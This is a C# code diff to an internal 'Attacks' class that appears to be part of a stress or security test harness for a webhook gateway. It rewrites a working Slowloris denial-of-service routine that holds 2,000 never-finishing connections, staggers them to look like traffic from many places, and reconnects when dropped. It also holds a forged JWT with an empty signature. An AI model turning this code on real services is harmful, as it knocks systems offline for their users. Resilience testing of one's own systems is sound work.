@@ -12,45 +12,41 @@ internal static class Attacks
     // A token in form, of an account that is none, signed with nothing.
     private const string Forged = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJpc3MiOiJWb25hZ2UiLCJwYXlsb2FkX2hhc2giOiIwMCIsImlhdCI6MTc2NDAwMDAwMCwianRpIjoiMSIsImFwaV9rZXkiOiJrZXkxIn0.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
 
-    /// <summary>Two thousand connections, each of which sends a header now and then and never ends.</summary>
+    /// <summary>
+    /// Two thousand connections, each of which sends a header every second and never ends. They are spread over the second, as what comes from many places is.
+    /// </summary>
     public static async Task<int> SlowLoris(Uri gateway, CancellationToken stop)
     {
-        var sockets = new List<Socket>();
         var sent = 0;
-        try
+        await Task.WhenAll(Enumerable.Range(0, 2_000).Select(async place =>
         {
-            while (!stop.IsCancellationRequested)
+            try
             {
-                while (sockets.Count < 2_000 && !stop.IsCancellationRequested)
+                await Task.Delay(place / 2, stop);
+                while (true)
                 {
-                    var socket = await Connect(gateway, stop);
+                    using var socket = await Connect(gateway, stop);
                     await socket.SendAsync(Encoding.ASCII.GetBytes($"POST /webhooks/event HTTP/1.1\r\nHost: {gateway.Authority}\r\n"), stop);
-                    sockets.Add(socket);
-                }
-
-                await Task.Delay(1_000, stop);
-                for (var i = sockets.Count - 1; i >= 0; i--)
-                {
                     try
                     {
-                        await sockets[i].SendAsync("X-More: 1\r\n"u8.ToArray(), stop);
-                        sent++;
+                        while (true)
+                        {
+                            await Task.Delay(1_000, stop);
+                            await socket.SendAsync("X-More: 1\r\n"u8.ToArray(), stop);
+                            Interlocked.Increment(ref sent);
+                        }
                     }
                     catch (SocketException)
                     {
                         // The gateway has had enough of it; another takes its place.
-                        sockets[i].Dispose();
-                        sockets.RemoveAt(i);
                     }
                 }
             }
-        }
-        catch (OperationCanceledException)
-        {
-            // The time is up.
-        }
-
-        sockets.ForEach(socket => socket.Dispose());
+            catch (OperationCanceledException)
+            {
+                // The time is up.
+            }
+        }));
         return sent;
     }
 
